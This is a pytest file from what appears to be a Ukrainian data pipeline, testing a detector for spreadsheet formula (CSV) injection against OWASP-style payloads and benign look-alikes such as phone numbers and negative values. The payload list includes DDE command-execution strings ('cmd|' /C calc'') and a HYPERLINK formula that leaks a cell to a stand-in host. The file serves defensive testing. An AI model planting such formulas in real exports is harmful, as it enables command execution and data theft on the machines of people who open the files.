import pyarrow as pa
import pytest

from ternopil_pipelines.gates.formulas import formulas, is_formula

# The list of OWASP's page on CSV injection, and what spreadsheets of this country add to it.
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+2+5+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org?leak="&A1,"Тисніть")',
    '=IMPORTXML(CONCAT("https://example.org/",A2:E2),"//a/a10")',
    "=WEBSERVICE(A1)",
    "+СУММ(А1:А2)",
    "-SUM(A1:A9)",
    "@SUM(A1)",
    "-A1+B2",
    "＝1+1",
)
POSITIONS = (
    "{}",
    " {}",
    "\u00a0{}",
    "\t{}",
    "\r{}",
    "вул. Руська\n{}",
    "вул. Руська;{}",
    "'{}",
    '"{}"',
    "«{}»",
    "текст\t{}",
)
ORDINARY = (
    "-5", "-5,5", "−5", "-12 500,50 грн", "-5 °C", "+5%", "-0.5", "+ 5", "-5…-10", "-5 – +10", "-10..+5", "-5 до +5",
    "+380352521234", "+380 (352) 52-12-34", "+38 067 123 45 67", "+380352521234, +380671234567",
    "+380352521234; +380352521235",
    "-", "--", "—", "–", "- - -", "-/-", "+", "+/-", "- вул. Руська", "- вул. Руська (ріг Замкової)", "-вул. Руська",
    "- перший\n- другий", "- 12 квартир", "- школа № 3; - садок", "- ліцей «Мрія» - 2 класи", "- так", "-1 поверх",
    "5-10", "a; -5", "вул. Руська, -", "info@example.gov.ua", "2 + 2 = 4", "Ціна: = 5",
)  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("position", POSITIONS)
def test_a_formula_is_found_wherever_it_stands(payload: str, position: str) -> None:
    text = position.format(payload)
    assert list(formulas(pa.array(["так", text, None], pa.large_string()))) == [1]


@pytest.mark.parametrize("text", ORDINARY)
def test_an_ordinary_text_raises_no_alarm(text: str) -> None:
    assert not is_formula(text)
    assert not len(formulas(pa.array([text], pa.large_string())))
